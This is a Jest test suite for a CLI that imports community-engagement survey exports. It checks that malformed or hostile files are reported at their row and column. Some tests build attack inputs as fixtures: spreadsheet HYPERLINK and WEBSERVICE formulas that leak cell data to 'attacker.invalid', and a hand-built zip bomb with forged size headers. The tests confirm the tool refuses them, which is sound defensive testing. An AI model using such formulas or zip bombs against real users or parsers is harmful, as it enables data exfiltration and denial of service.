// Bad spreadsheets for `ce-plan import`: each problem gets its file, row and column, the rows without
// one are still written, and the exit code is 1 (2 for a file that cannot be read at all).
import { describe, expect, test } from '@jest/globals';
import ExcelJS from 'exceljs';
import { stringify } from 'csv-stringify/sync';
import { existsSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { createDeflateRaw } from 'node:zlib';
import { join } from 'node:path';
import { parse } from 'yaml';
import { runCli, STACK_TRACE } from './helpers/cli.js';
import { runInProcess } from './helpers/in-process.js';
import { tempDir as makeTempDir } from './helpers/temp.js';

const tempDir = () => makeTempDir('import-bad');

const MUST_DO = 'Do your leaders see work with residents as a "must do", not an extra?';
const RESPONDING = 'When residents raise an issue, do you reply and say what you will do?';
const DEFINITION = 'Have you written down what community engagement means for your group?';
const ANSWER = 'How would you answer a demand you cannot meet, such as doubling police on the beat?';
const HEADER = ['Organisation', MUST_DO, RESPONDING, DEFINITION, ANSWER];
const good = (name: string) => [name, 'Yes', 'Sometimes', 'Partly, or only in rough notes', 'We would say what we can do instead.'];

/** Imports a file made in a fresh folder; the answer files go to its `answers` folder. */
async function importing(name: string, content: string | Buffer, ...flags: string[]) {
  const dir = tempDir();
  const file = join(dir, name);
  writeFileSync(file, content);
  const run = await runInProcess(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers'), ...flags]);
  expect(run.stderr).not.toMatch(STACK_TRACE);
  const written = existsSync(join(dir, 'answers')) ? readdirSync(join(dir, 'answers')).sort() : [];
  return { ...run, file, dir, written, answer: (stem: string) => readFileSync(join(dir, 'answers', `${stem}.yaml`), 'utf8') };
}

const csv = (rows: (string | number)[][], delimiter = ',') => stringify(rows, { delimiter, record_delimiter: '\r\n' });

/** A finding as the output shows it: row:column, severity, rule, message. */
const finding = (at: string, severity: 'error' | 'warning', rule: string, message: string | RegExp) =>
  new RegExp(`\\n {2}${at} +${severity} +${rule} +${typeof message === 'string' ? message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&') : message.source}`);

describe('a cell that fits no option', () => {
  test('is reported at its row and column with "did you mean"; its row writes no file, the others are written', async () => {
    const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', 'Partially', 'No', 'No', ''], good('Eastgate')]));
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`${run.file}\n`);
    expect(run.stderr).toMatch(
      finding('3:2', 'error', 'unknown-option', '"must-do": "Partially" fits no option ("Yes", "Partly", "No", "Don\'t know"); did you mean "Partly"?'),
    );
    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
  });

  test('in a multiple choice, each piece that fits none is named', async () => {
    const header = ['Organisation', 'Which of these is your engagement linked to?'];
    const dir = tempDir();
    const file = join(dir, 'r.csv');
    writeFileSync(
      file,
      csv([
        header,
        ['Northfield', "Your business plan;Your partnership's plans or objectivs;"],
        ['Eastgate', 'Your business plan;How your organisation works day to day (its culture and values)'],
      ]),
    );
    const run = await runInProcess(['import', file, '--bank', 'ce-readiness', '--out-dir', join(dir, 'answers')]);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      finding(
        '2:2',
        'error',
        'unknown-option',
        /"plan-links": "Your partnership's plans or objectivs" fits no option .*; did you mean "Your partnership's plans or objectives"\?/,
      ),
    );
    expect(readdirSync(join(dir, 'answers'))).toEqual(['eastgate.yaml']);
  });
});

test('a column that matches no question is reported at row 1 with "did you mean"; every row is still written', async () => {
  const typo = 'Have you writen down what community engagement means for your group';
  const run = await importing(
    'responses.csv',
    csv([
      [...HEADER, typo, 'Any other comments?'],
      [...good('Northfield'), 'Yes', 'None'],
      [...good('Riverside'), 'No', ''],
    ]),
  );
  expect(run.code).toBe(1);
  expect(run.stderr).toMatch(
    finding(
      '1:6',
      'error',
      'unknown-column',
      `column "${typo.slice(0, 37)}..." matches no question of bank "quick-check"; did you mean "${DEFINITION}" (definition-written)?`,
    ),
  );
  expect(run.stderr).toMatch(finding('1:7', 'error', 'unknown-column', 'column "Any other comments?" matches no question of bank "quick-check" (--ignore it'));
  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
  // --ignore silences it.
  const ignored = await importing(
    'responses.csv',
    csv([
      [...HEADER, 'Any other comments?'],
      [...good('Northfield'), 'None'],
    ]),
    '--ignore',
    'any other comments',
  );
  expect(ignored).toMatchObject({ code: 0, stderr: '' });
});

test('a column with no header is left alone when empty, and an error when a row fills it', async () => {
  const run = await importing(
    'responses.csv',
    csv([
      [...HEADER, '', ''],
      [...good('Northfield'), '', ''],
      [...good('Riverside'), '', 'stray'],
    ]),
  );
  expect(run.code).toBe(1);
  expect(run.stderr).toMatch(finding('1:7', 'error', 'unknown-column', 'column 7 has no header, but row 3 holds a value in it; name the column, or empty it'));
  expect(run.stderr).not.toMatch(/1:6 /);
  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
  const empty = await importing('responses.csv', '');
  expect(empty.code).toBe(2);
  expect(empty.stderr).toContain('is empty: a form export has a header row, then a row for each response');
});

test('a duplicated header: both columns are read, a row where they differ is refused', async () => {
  const run = await importing(
    'responses.csv',
    csv([
      [...HEADER, RESPONDING],
      [...good('Northfield'), 'Sometimes'],
      [...good('Riverside'), 'No'],
      [...good('Eastgate'), ''],
    ]),
  );
  expect(run.code).toBe(1);
  expect(run.stderr).toMatch(
    finding('1:6', 'error', 'duplicate-column', /column "When residents .*" is a second column for question "responding" \(column 3 is the first\)/),
  );
  expect(run.stderr).toMatch(finding('3:6', 'error', 'duplicate-column', 'this column and column 3 are for the same question, and differ on this row'));
  expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
});

test('an empty row is skipped with a warning; the others are written, and nothing failed', async () => {
  const text = `${csv([HEADER, good('Northfield')])},,,,\r\n\r\n${csv([good('Riverside')])}`;
  const run = await importing('responses.csv', text);
  expect(run.code).toBe(0);
  expect(run.stderr).toMatch(finding('3:1', 'warning', 'empty-row', 'rows 3 to 4 are empty (2 of them); they are skipped'));
  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
});

describe('a wrong delimiter', () => {
  test('a row separated otherwise than the header is refused at its row; the others are written', async () => {
    const text = `${csv([HEADER, good('Northfield')], ';')}${csv([good('Riverside')], ',')}${csv([good('Eastgate')], ';')}`;
    const run = await importing('responses.csv', text);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('3:1', 'error', 'row-length', 'row 3 is one cell, where the header has 5: it is separated by ",", not ";"'));
    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
  });

  test('a value with the delimiter in it, unquoted, is refused at its row', async () => {
    const text = `${csv([HEADER, good('Northfield')])}Riverside,Yes,Sometimes,No,We would say, plainly, what we can do\r\n`;
    const run = await importing('responses.csv', text);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      finding('3:6', 'error', 'row-length', 'row 3 has 7 cells, but the header has 5: a value with "," in it must be in double quotes'),
    );
    expect(run.written).toEqual(['northfield.yaml']);
  });

  test('--delimiter that the file does not use says which it seems to use', async () => {
    const run = await importing('responses.csv', csv([HEADER, good('Northfield')], ';'), '--delimiter', ',');
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`none of its columns is a question of bank "quick-check"`);
    expect(run.stderr).toContain(`the header's cells hold ";": is the file separated by it? pass --delimiter ";"`);
  });
});

describe('a large file', () => {
  test('of 20 MB: the row with a cell too large for an answer file is refused at that cell; the others are written', async () => {
    const huge = 'x'.repeat(20 * 1024 * 1024);
    const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', 'Yes', 'No', 'No', huge], good('Eastgate')]));
    expect(statSync(run.file).size).toBeGreaterThan(20 * 1024 * 1024);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      finding('3:5', 'error', 'answer-too-large', 'this cell holds 20.0 MiB of text, more than an answer file can hold (3.9 MiB in all)'),
    );
    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
  });

  test('larger than a form export should be is refused before it is read (exit 2)', async () => {
    const dir = tempDir();
    const file = join(dir, 'huge.csv');
    writeFileSync(file, '');
    truncateSync(file, 65 * 1024 * 1024); // sparse: nothing is written to disk
    const run = await runInProcess(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/1:1 +error +file-too-large +is 65\.0 MiB, larger than a form export should be \(the limit is 64\.0 MiB\)/);
  });
});

describe('formulas', () => {
  test('in a workbook are refused at their cell and never evaluated; the other rows are written', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Form1');
    sheet.addRow(HEADER);
    sheet.addRow(good('Northfield'));
    sheet.addRow(['Riverside', { formula: 'HYPERLINK("http://attacker.invalid/?leak="&B2,"Yes")', result: 'Yes' }, 'No', 'No', '']);
    sheet.addRow(['Eastgate', 'Yes', 'No', 'No', { formula: 'WEBSERVICE("http://attacker.invalid/")' }]);
    sheet.addRow(good('Westfield'));
    const run = await importing('responses.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('3:2', 'error', 'formula-cell', /"must-do": is a formula \("=HYPERLINK\(.*"\); ce-plan never runs formulas/));
    expect(run.stderr).toMatch(finding('4:5', 'error', 'formula-cell', /"unmeetable-answer": is a formula \("=WEBSERVICE\(/));
    expect(run.written).toEqual(['northfield.yaml', 'westfield.yaml']);
  });

  test('in a CSV are text: kept as typed in a text answer, and no option in a choice', async () => {
    const formula = '=HYPERLINK("http://attacker.invalid/","click")';
    const run = await importing('responses.csv', csv([HEADER, ['Northfield', 'Yes', 'Sometimes', 'No', formula], ['Riverside', formula, 'No', 'No', '']]));
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('3:2', 'error', 'unknown-option', '"must-do": "=HYPERLINK(\\"http://attacker.invalid/\\"...'));
    expect((parse(run.answer('northfield')) as { answers: Record<string, string> }).answers['unmeetable-answer']).toBe(formula);
  });
});

describe('a mis-encoded file', () => {
  const latin1 = () => {
    const text = csv([HEADER, good('Northfield'), ['Café Partnership', 'Yes', 'No', 'No', ''], ['Eastgate', 'Yes', 'No', 'No', 'We don’t know yet']]);
    return Buffer.from(text.replace('’', '\u0092'), 'latin1'); // Windows-1252's bytes for é and ’
  };

  test('is refused cell by cell, at each row and column with bytes that are not UTF-8; the other rows are written', async () => {
    const run = await importing('responses.csv', latin1());
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('3:1', 'error', 'unreadable-cell', '"organisation": holds bytes that are not UTF-8 text'));
    expect(run.stderr).toMatch(
      finding('4:5', 'error', 'unreadable-cell', /"unmeetable-answer": holds bytes that are not UTF-8 text .* pass --encoding windows-1252/),
    );
    expect(run.written).toEqual(['northfield.yaml']);
  });

  test('reads as it was written with --encoding', async () => {
    const run = await importing('responses.csv', latin1(), '--encoding', 'windows-1252');
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(run.written).toEqual(['cafe-partnership.yaml', 'eastgate.yaml', 'northfield.yaml']);
    expect(run.answer('cafe-partnership')).toContain('name: Café Partnership');
    expect(run.answer('eastgate')).toContain('We don’t know yet');
  });

  test('UTF-16 with its byte order mark, as Excel saves "Unicode Text", tab-separated', async () => {
    const text = csv([HEADER, good('Café Northfield')], '\t');
    const run = await importing('responses.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(run.answer('cafe-northfield')).toContain('name: Café Northfield');
  });
});

describe('files that cannot be read as a form export', () => {
  test('a quote never closed: the rows before it are written', async () => {
    const run = await importing('responses.csv', `${csv([HEADER, good('Northfield')])}Riverside,"Yes,No,No,\r\nEastgate,Yes,No,No,\r\n`);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('3:1', 'error', 'csv-syntax', 'row 3: a quoted cell here is never closed, so the rest of the file cannot be read'));
    expect(run.written).toEqual(['northfield.yaml']);
  });

  test('an old .xls workbook and binary junk are refused (exit 2)', async () => {
    const xls = await importing('responses.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]));
    expect(xls.code).toBe(2);
    expect(xls.stderr).toContain('is an old Excel .xls workbook; save it as an Excel Workbook (.xlsx) or as CSV UTF-8');
    const junk = await importing('responses.csv', Buffer.from([0x41, 0x00, 0x42, 0xff]));
    expect(junk.code).toBe(2);
    expect(junk.stderr).toContain('is not a text file (a zero byte at offset 1)');
  });

  test('a zip bomb whose headers say it is small is refused as it unpacks, from its bytes, in a small memory', async () => {
    // 200 MiB of one letter, deflated to a few hundred kilobytes, as the workbook's sheet; its headers say 1 KiB.
    const deflate = createDeflateRaw({ level: 9 });
    const parts: Buffer[] = [];
    deflate.on('data', (chunk: Buffer) => parts.push(chunk));
    const done = new Promise((resolve) => deflate.on('end', resolve));
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    for (let i = 0; i < 200; i++) deflate.write(chunk);
    deflate.end();
    await done;
    const data = Buffer.concat(parts);
    const name = Buffer.from('xl/worksheets/sheet1.xml');
    /** A zip record: its signature, then little-endian numbers at their offsets, as [offset, bytes, value]. */
    const record = (length: number, signature: number, fields: [number, 2 | 4, number][]) => {
      const bytes = Buffer.alloc(length);
      bytes.writeUInt32LE(signature, 0);
      for (const [offset, size, value] of fields) (size === 2 ? bytes.writeUInt16LE : bytes.writeUInt32LE).call(bytes, value, offset);
      return bytes;
    };
    // Deflated, its compressed size given truly and its size as 1 KiB, in the local header and the directory alike.
    const local = record(30, 0x04034b50, [
      [8, 2, 8],
      [18, 4, data.length],
      [22, 4, 1024],
      [26, 2, name.length],
    ]);
    const central = record(46, 0x02014b50, [
      [10, 2, 8],
      [20, 4, data.length],
      [24, 4, 1024],
      [28, 2, name.length],
    ]);
    const end = record(22, 0x06054b50, [
      [8, 2, 1],
      [10, 2, 1],
      [12, 4, central.length + name.length],
      [16, 4, local.length + name.length + data.length],
    ]);
    const dir = tempDir();
    const file = join(dir, 'responses.xlsx');
    writeFileSync(file, Buffer.concat([local, name, data, central, name, end]));
    const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')], { nodeArgs: ['--max-old-space-size=100'] });
    expect(run.stderr).not.toMatch(/heap out of memory/);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('unpacks to more than 128.0 MiB, larger than a form export should be');
  });

  test('a SurveyJS value no question takes is refused at its line and column', async () => {
    const results = JSON.stringify(
      [
        { organisation: 'Northfield', 'must-do': 'yes' },
        { organisation: 'Riverside', 'must-do': { matrix: 1 } },
      ],
      null,
      2,
    );
    const run = await importing('results.json', results);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      finding('8:16', 'error', 'unreadable-cell', '"must-do": holds a group of answers (a matrix or panel) that no ce-plan question takes'),
    );
    expect(run.written).toEqual(['northfield.yaml']);
  });
});

describe('dates', () => {
  test('a date column is read in one order: a date that reads one way only settles it for the whole column, and import says so', async () => {
    const run = await importing(
      'responses.csv',
      csv([
        [...HEADER, 'Date'],
        [...good('Northfield'), '05/11/2026'],
        [...good('Riverside'), '20/11/2026'],
        [...good('Eastgate'), '2026-11-22'],
        [...good('Westfield'), '3rd Dec 2026'],
        [...good('Southgate'), '31 September 2026'],
        [...good('Easton'), '11/20/2026'],
      ]),
    );
    expect(run.code).toBe(1);
    // 20/11/2026 settles the column day first, so 05/11/2026 is 5 November, before and after it alike.
    expect(run.answer('northfield')).toContain('date: 2026-11-05');
    expect(run.answer('riverside')).toContain('date: 2026-11-20');
    expect(run.answer('eastgate')).toContain('date: 2026-11-22');
    expect(run.answer('westfield')).toContain('date: 2026-12-03');
    expect(run.stderr).toMatch(finding('6:6', 'error', 'invalid-date', '"date": "31 September 2026" is not a real date'));
    expect(run.stderr).toMatch(
      finding(
        '7:6',
        'error',
        'invalid-date',
        `"date": "11/20/2026" can only be month first, but this column's dates are day first (as "20/11/2026" in row 3 shows)`,
      ),
    );
    expect(run.stderr).toContain(
      'responses.csv: dates in column "Date" read day first (05/11/2026 is 5 November 2026), as "20/11/2026" in row 3 can only be read that way',
    );
  });

  test('dates that read either way are day first, as in the UK, unless --date-order mdy; Excel serial numbers are dates', async () => {
    const rows = [
      [...HEADER, 'Date'],
      [...good('Northfield'), '05/11/2026'],
      [...good('Riverside'), '46346'],
      [...good('Eastgate'), '1.2.26'],
    ];
    const uk = await importing('responses.csv', csv(rows));
    expect(uk.code).toBe(0);
    expect([uk.answer('northfield'), uk.answer('riverside'), uk.answer('eastgate')].map((a) => /date: (\S+)/.exec(a)?.[1])).toEqual([
      '2026-11-05',
      '2026-11-20',
      '2026-02-01',
    ]);
    expect(uk.stderr).toContain(
      'dates in column "Date" read day first (05/11/2026 is 5 November 2026), as in the UK; if they are month first, pass --date-order mdy',
    );
    const us = await importing('responses.csv', csv(rows), '--date-order', 'mdy');
    expect(us.code).toBe(0);
    expect([us.answer('northfield'), us.answer('eastgate')].map((a) => /date: (\S+)/.exec(a)?.[1])).toEqual(['2026-05-11', '2026-01-02']);
    expect(us.stderr).toContain('dates in column "Date" read month first (05/11/2026 is 11 May 2026), as --date-order says');
  });

  test('an Excel date column in a workbook, as numbers, reads as dates', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Form1');
    sheet.addRow([...HEADER, 'Date']);
    sheet.addRow([...good('Northfield'), 46346]);
    const run = await importing('responses.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(run.code).toBe(0);
    expect(run.answer('northfield')).toContain('date: 2026-11-20');
  });

  test("a tool's timestamp that cannot be read leaves the date out, with one warning", async () => {
    const run = await importing(
      'responses.csv',
      csv([
        ['Timestamp', ...HEADER],
        ['2026/11/20 9:02:11 AM GMT', ...good('Northfield')],
        ['the third of April', ...good('Riverside')],
      ]),
    );
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(finding('3:1', 'warning', 'invalid-date', 'the date of row 3 (and any others like it) is left out'));
    expect(run.answer('northfield')).toContain('date: 2026-11-20');
    expect(run.answer('riverside')).not.toContain('date:');
  });
});

describe('the real cause, named', () => {
  test('an old .xls workbook and one locked with a password: assess and import say the same, each what would help', async () => {
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]);
    // Office wraps an encrypted workbook in a compound file with an "EncryptedPackage" stream.
    const locked = Buffer.concat([xls, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(64)]);
    for (const [name, bytes, words] of [
      ['old.xls', xls, 'is an old Excel .xls workbook; save it as an Excel Workbook (.xlsx) or as CSV UTF-8'],
      ['locked.xlsx', locked, 'is a workbook locked with a password, which ce-plan cannot open: in Excel, remove the password'],
    ] as const) {
      const imported = await importing(name, bytes);
      expect(imported.code).toBe(2);
      expect(imported.stderr).toContain(words);
      const assessed = await runInProcess(['assess', imported.file, '--bank', 'quick-check', '--out-dir', join(imported.dir, 'reports')]);
      expect(assessed.code).toBe(1);
      expect(assessed.stderr).toContain(words);
      expect(assessed.stderr).not.toContain('UTF-8 YAML');
    }
  });

  test('an export of another bank (or of labels in another language) says so, not that it lacks an organisation column', async () => {
    const run = await importing(
      'responses.csv',
      csv([
        ['Organización', '¿Sus líderes ven la participación como imprescindible?'],
        ['Northfield', 'Sí'],
      ]),
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(
      'none of its 2 columns (such as "Organización" and "¿Sus líderes ven la participación com...") is a question or detail of bank "quick-check": is it an export of a form made from another bank?',
    );
    expect(run.stderr).not.toContain('organisation');
  });

  test('a header below a title row says which row it is on', async () => {
    const run = await importing('responses.csv', csv([['Community safety survey, November'], HEADER, good('Northfield')]));
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('its header is row 2, not row 1 (row 1 matches no question of bank "quick-check"); delete the rows above it');
  });

  test('a response that answers no question writes no answer file: an error at its row', async () => {
    const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', '', '', '', '']]));
    expect(run.code).toBe(1);
    expect(run.written).toEqual(['northfield.yaml']);
    expect(run.stderr).toMatch(finding('3:1', 'error', 'no-answers', 'row 3 answers no question of bank "quick-check"'));
  });

  test('SurveyJS results wrapped as no service writes them are named for what they are', async () => {
    const run = await importing('results.json', JSON.stringify({ data: [{ organisation: 'Northfield', 'must-do': 'yes' }] }));
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('holds a list of responses under "data": ce-plan reads SurveyJS results as a JSON list of responses');
  });

  test('one file with several findings gets one block of them, in import and in assess', async () => {
    const rows = [
      [...HEADER, 'Comments'],
      ['Northfield', 'Partially', 'No', 'No', '', 'x'],
      ['Riverside', 'Yes', 'Often', 'No', '', ''],
    ];
    const run = await importing('responses.csv', csv(rows));
    const assessed = await runInProcess(['assess', run.file, '--bank', 'quick-check', '--out-dir', join(run.dir, 'reports')]);
    for (const output of [run.stderr, assessed.stderr]) {
      expect(output.match(/✖/g)).toHaveLength(1);
      expect(output).toContain('✖ 3 problems (3 errors, 0 warnings) in 1 file checked');
    }
  });
});

test('import never writes an answer file that assess would refuse: one that escaping makes larger than assess reads is refused at its row', async () => {
  // 1 MiB of control characters, each written \u0001 (six bytes) in the answer file: 6 MiB, over assess's 4 MiB.
  const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', 'Yes', 'No', 'No', '\u0001'.repeat(1024 * 1024)]]));
  expect(run.code).toBe(1);
  expect(run.written).toEqual(['northfield.yaml']);
  expect(run.stderr).toMatch(finding('3:1', 'error', 'answer-too-large', 'row 3 would make an answer file of 6.0 MiB, larger than assess reads (4.0 MiB)'));
  const assessed = await runInProcess(['assess', join(run.dir, 'answers', 'northfield.yaml'), '--out-dir', join(run.dir, 'reports')]);
  expect(assessed.code).toBe(0);
});

describe('a workbook is read by the cells it holds, within a small memory', () => {
  // Each run has 150 MB of heap: reading every row as wide as a stray cell far to the right, or every
  // row down to a stray cell far below, would need many times that.
  const capped = { nodeArgs: ['--max-old-space-size=150'] };

  async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<{ file: string; dir: string }> {
    const dir = tempDir();
    const book = new ExcelJS.Workbook();
    fill(book.addWorksheet('Form1'));
    const file = join(dir, 'responses.xlsx');
    await book.xlsx.writeFile(file);
    return { file, dir };
  }

  test('one stray cell in column XFD: each row is read by its cells, and the stray one is reported', async () => {
    const { file, dir } = await workbook((sheet) => {
      sheet.addRow(HEADER);
      for (let i = 0; i < 3000; i++) sheet.addRow(good(`Group ${i}`));
      sheet.getCell('XFD2').value = 'stray';
    });
    const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')], capped);
    expect(run.stderr).not.toMatch(/heap out of memory/);
    expect(run.stderr).not.toMatch(STACK_TRACE);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('column 16384 has no header, but row 2 holds a value in it');
    expect(readdirSync(join(dir, 'answers'))).toHaveLength(3000);
  });

  test('one cell in row 1,048,576: no million empty rows, and at most one warning for blank rows', async () => {
    const { file, dir } = await workbook((sheet) => {
      sheet.addRow(HEADER);
      sheet.addRow(good('Northfield'));
      sheet.getCell('A1048576').value = 'Far below';
    });
    const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')], capped);
    expect(run.stderr).not.toMatch(/heap out of memory/);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(finding('1048576:1', 'error', 'no-answers', 'row 1048576 answers no question of bank "quick-check"'));
    expect(run.stderr.split('\n').length).toBeLessThan(10);
    expect(readdirSync(join(dir, 'answers'))).toEqual(['northfield.yaml']);
  });

  test('a CSV of many blank lines gets one warning for them', async () => {
    const run = await importing('responses.csv', `${csv([HEADER, good('Northfield')])}${'\r\n'.repeat(5000)}${csv([good('Riverside')])}`);
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(finding('3:1', 'warning', 'empty-row', 'rows 3 to 5002 are empty (5000 of them); they are skipped'));
    expect(run.stderr.match(/empty-row/g)).toHaveLength(1);
  });
});

test('SurveyJS results are read in a few times their size of memory: 4 MiB of them within a 100 MB heap', async () => {
  const response = (i: number) =>
    JSON.stringify({
      organisation: `Group ${i}`,
      'must-do': 'yes',
      responding: 'sometimes',
      'definition-written': 'partly',
      'unmeetable-answer': 'We would explain plainly what can change this year and what cannot, and why. '.repeat(12),
    });
  const lines: string[] = [];
  let size = 0;
  for (let i = 0; size < 4 * 1024 * 1024; i++) size += (lines[i] = response(i)).length + 2;
  const dir = tempDir();
  const file = join(dir, 'results.json');
  writeFileSync(file, `[\n${lines.join(',\n')}\n]\n`);
  const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')], { nodeArgs: ['--max-old-space-size=100'] });
  expect(run.stderr).not.toMatch(/heap out of memory/);
  expect(run.code).toBe(0);
  expect(readdirSync(join(dir, 'answers'))).toHaveLength(lines.length);
}, 120_000);
